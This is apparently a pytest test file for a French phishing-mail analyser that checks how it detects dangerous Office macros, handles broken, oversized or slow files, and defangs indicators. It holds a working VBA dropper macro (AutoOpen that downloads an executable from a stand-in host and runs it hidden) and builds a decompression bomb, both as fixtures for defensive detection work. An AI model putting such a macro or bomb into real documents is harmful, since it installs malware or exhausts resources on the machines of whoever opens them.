"""Office macros read with oletools, on real documents built here (``tests/auxil/officefile``):
a macro that runs by itself and downloads or runs a program is dangerous on its own, a plain
macro keeps the weaker signal, and broken, oversized or slow files give a verdict, never a
crash."""

from __future__ import annotations

import io
import json
import logging
import random
import subprocess
import sys
import time
import warnings
import zipfile
from collections.abc import Callable

import pytest

from tests.auxil import officefile
from tests.vigie.phishing.mailcheck.test_signals import _mail
from vigie.phishing.mailcheck import Analysis, Limits, analyse, trusted_domains
from vigie.phishing.mailcheck.limits import Deadline
from vigie.phishing.mailcheck.macros import (
    MAX_CODE_CHARS,
    MacroReport,
    _OutOfTime,
    _within,
    read_macros,
)
from vigie.phishing.mailcheck.parse import detect_magic, zip_entries
from vigie.phishing.mailcheck.sandbox import Sandbox

DROPPER = (
    "Sub AutoOpen()\r\n"
    '    URLDownloadToFile 0, "http://telechargement.example/facture.exe", '
    '"C:\\Users\\Public\\facture.exe", 0, 0\r\n'
    '    Shell "C:\\Users\\Public\\facture.exe", vbHide\r\n'
    "End Sub\r\n"
)
BENIGN = 'Sub Total()\r\n    MsgBox "Total de la semaine : " & Range("A1").Value\r\nEnd Sub\r\n'
AUTO_ONLY = "Sub Document_Open()\r\n    ActiveDocument.Fields.Update\r\nEnd Sub\r\n"
PAYLOAD_ONLY = 'Sub Imprimer()\r\n    Shell "cmd.exe /c print facture.txt"\r\nEnd Sub\r\n'


def _analyse(name: str, data: bytes, limits: Limits | None = None) -> Analysis:
    return analyse(_mail(attachments=((name, data),)), limits=limits)


def _report(data: bytes, limits: Limits | None = None, seconds: float = 2.0) -> MacroReport | None:
    limits = limits or Limits()
    magic = detect_magic(data)
    listing = zip_entries(data, limits) if magic == "zip" else None
    entries = listing[0] if listing else None
    return read_macros(data, magic, entries, limits, Deadline(seconds))


def test_the_documents_built_here_are_read_by_oletools() -> None:
    """The proof the fixtures are real: olevba itself decompresses the code written here."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # pyparsing's deprecations, at import
        from oletools.olevba import VBA_Parser

    long_code = "' " + "x" * 6000 + "\r\n" + DROPPER  # a raw 4096-byte chunk, then literals
    for data in (
        officefile.vba_project({"Module1": DROPPER}),
        officefile.docm({"ThisDocument": "", "Module1": long_code}),
        officefile.word97({"Module1": DROPPER}),
    ):
        parser = VBA_Parser("test", data=data, disable_pcode=True)
        codes = [code for *_, code in parser.extract_macros()]
        parser.close()
        assert any(code.endswith(DROPPER) for code in codes)
    assert officefile.ovba_compress(b"") == b"\x01"  # a container with no chunk


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("facture.docm", lambda code: officefile.docm({"ThisDocument": "", "Module1": code})),
        ("facture.doc", lambda code: officefile.word97({"Module1": code})),
        ("facture.docx", lambda code: officefile.docm({"Module1": code})),  # a renamed .docm
    ],
)
def test_a_macro_that_runs_by_itself_and_downloads_is_dangerous(
    name: str, build: Callable[[str], bytes]
) -> None:
    analysis = _analyse(name, build(DROPPER))
    signal = next(s for s in analysis.signals if s.code == "macro_autoexec_payload")
    assert signal.weight >= 60  # dangerous on its own
    assert analysis.verdict == "dangereux"
    assert analysis.reasons[0] == signal.explanation_fr
    assert signal.explanation_fr == (
        f"La macro de la pièce jointe «\u00a0{name}\u00a0» se lance toute seule (AutoOpen) et "
        "peut télécharger ou lancer un programme (Shell, vbHide, URLDownloadToFile)\u00a0: "
        "c’est ainsi que s’installent les logiciels malveillants, n’ouvrez pas ce document."
    )
    assert "hxxp://telechargement[.]example/facture.exe" in analysis.indicators
    assert "facture[.]exe" in signal.indicators
    assert "http://telechargement.example" not in json.dumps(analysis.to_json())
    assert "attachment_macro" in {s.code for s in analysis.signals}


def test_a_plain_macro_keeps_the_weaker_signal_only() -> None:
    analysis = _analyse("planning.xlsm", officefile.docm({"Module1": BENIGN}))
    assert [s.code for s in analysis.signals] == ["attachment_macro"]
    assert analysis.verdict == "douteux"


def test_a_macro_that_only_runs_by_itself_stays_doubtful() -> None:
    analysis = _analyse("courrier.docm", officefile.docm({"ThisDocument": AUTO_ONLY}))
    assert {s.code for s in analysis.signals} == {"attachment_macro", "macro_autoexec"}
    assert analysis.verdict == "douteux"
    macro = next(s for s in analysis.signals if s.code == "macro_autoexec")
    assert "(Document_Open)" in macro.explanation_fr


def test_a_macro_that_runs_a_program_on_a_click_is_dangerous_with_the_document() -> None:
    analysis = _analyse("facture.docm", officefile.docm({"Module1": PAYLOAD_ONLY}))
    assert {s.code for s in analysis.signals} == {"attachment_macro", "macro_payload"}
    assert analysis.verdict == "dangereux"


def test_an_old_office_file_with_macros_but_no_marker_name_is_seen() -> None:
    """A .doc named .txt: oletools finds the project where only the OLE magic was known."""
    analysis = _analyse("notes.txt", officefile.word97({"Module1": DROPPER}))
    assert {"attachment_macro", "macro_autoexec_payload"} <= {s.code for s in analysis.signals}


def test_a_broken_vba_project_gives_a_verdict_at_least_as_before() -> None:
    broken = officefile.docm({}, project=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 700)
    analysis = _analyse("facture.docm", broken)
    assert "attachment_macro" in {s.code for s in analysis.signals}
    assert analysis.verdict != "sans_danger"
    report = _report(broken)
    assert report is not None and report.unknown == "unreadable"
    # A project whose dir stream is garbage: the macros are there, their code unreadable.
    project = bytearray(officefile.vba_project({"Module1": DROPPER}))
    garbled = officefile.docm({}, project=bytes(project[:1536]) + bytes(len(project) - 1536))
    analysis = _analyse("facture.docm", garbled)
    assert "attachment_macro" in {s.code for s in analysis.signals}


def test_mutated_and_truncated_documents_never_crash() -> None:
    rng = random.Random(7)
    sources = [
        officefile.docm({"ThisDocument": "", "Module1": DROPPER}),
        officefile.word97({"Module1": DROPPER}),
    ]
    for source in sources:
        for _ in range(40):
            data = bytearray(source)
            for _ in range(rng.randint(1, 30)):
                data[rng.randrange(len(data))] = rng.randrange(256)
            cut = bytes(data[: rng.randint(8, len(data))]) if rng.random() < 0.3 else bytes(data)
            report = _report(cut)
            assert report is None or report.unknown in ("", "unreadable", "time")
            analysis = _analyse("facture.doc", cut)
            assert analysis.verdict in ("dangereux", "douteux", "sans_danger")


def test_an_oversized_document_is_not_read_and_flagged_as_before() -> None:
    data = officefile.docm({"Module1": DROPPER})
    limits = Limits(max_macro_bytes=len(data) - 1)
    assert _report(data, limits) == MacroReport(unknown="too_large")
    analysis = _analyse("facture.docm", data, limits)
    assert [s.code for s in analysis.signals] == ["attachment_macro"]


def test_a_document_without_macros_gives_nothing() -> None:
    analysis = _analyse("compte-rendu.docx", officefile.docx())
    assert analysis.signals == [] and analysis.verdict == "sans_danger"
    report = _report(officefile.docx())
    assert report is not None and not report.found and not report.unknown


def test_an_archive_is_never_opened_for_the_documents_inside() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("facture.docm", officefile.docm({"Module1": DROPPER}))
    assert _report(buffer.getvalue()) is None
    analysis = _analyse("factures.zip", buffer.getvalue())
    assert [s.code for s in analysis.signals] == ["attachment_archive_risky"]


def test_no_time_left_means_not_read() -> None:
    data = officefile.docm({"Module1": DROPPER})
    report = _report(data, seconds=-1.0)
    assert report is not None and report.unknown == "time"


def test_a_slow_parser_is_interrupted_even_through_a_bare_except() -> None:
    def stubborn() -> None:
        try:  # noqa: SIM105 - what some parsers do
            time.sleep(0.5)  # the first alarm lands here and is swallowed
        except:  # noqa: E722
            pass
        end = time.monotonic() + 5
        while time.monotonic() < end:
            pass

    started = time.monotonic()
    with pytest.raises(_OutOfTime):
        _within(0.1, stubborn)
    assert time.monotonic() - started < 1.0
    assert _within(0.5, lambda: 42) == 42
    time.sleep(0.2)  # the timer is disarmed: nothing fires later


def test_oletools_prints_and_logs_nothing(
    capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    broken = officefile.docm({}, project=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x01" * 900)
    for name, data in (
        ("a.docm", officefile.docm({"Module1": DROPPER})),
        ("b.docm", broken),
        ("c.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 2000),
    ):
        _analyse(name, data)
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err == ""
    assert not [r for r in caplog.records if not r.name.startswith("vigie")]
    assert "telechargement" not in caplog.text


def test_importing_the_analyser_does_not_import_oletools() -> None:
    code = "import sys, vigie.phishing.mailcheck; print('oletools' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


async def test_the_worker_reads_macros_too() -> None:
    sandbox = Sandbox(workers=1)
    data = _mail(attachments=(("facture.docm", officefile.docm({"Module1": DROPPER})),))
    result = await sandbox.analyse(data, trusted=trusted_domains(), limits=Limits())
    assert result.completed
    assert result.analysis.verdict == "dangereux"
    assert "macro_autoexec_payload" in {s.code for s in result.analysis.signals}
    assert result.peak_rss_kb <= 150 * 1024


def test_a_decompression_bomb_is_cut_by_the_time_limit() -> None:
    """600,000 chunks of 6 bytes, each 4096 bytes once decompressed (2.4 GB): the timer stops
    oletools, the analysis says it is incomplete, the document stays suspect."""
    project = officefile.vba_project({"Module1": ""}, {"Module1": officefile.ovba_bomb(600_000)})
    data = officefile.docm({}, project=project)
    started = time.monotonic()
    report = _report(data)
    assert report is not None and report.unknown == "time"
    analysis = _analyse("facture.docm", data)
    assert time.monotonic() - started < 5
    assert {"attachment_macro", "incomplete"} <= {s.code for s in analysis.signals}
    assert analysis.verdict == "dangereux" and analysis.truncated


def test_code_past_the_scanned_length_makes_the_analysis_incomplete() -> None:
    padding = "\r\n".join(
        f'    x = x & "ligne {i} du rapport"' for i in range(MAX_CODE_CHARS // 30)
    )
    data = officefile.docm({"Module1": f"Sub Rapport()\r\n{padding}\r\nEnd Sub\r\n"})
    report = _report(data, seconds=30)
    assert report is not None and report.truncated
    analysis = _analyse("rapport.xlsm", data, Limits(max_seconds=30, max_macro_seconds=30))
    assert {"attachment_macro", "incomplete"} <= {s.code for s in analysis.signals}
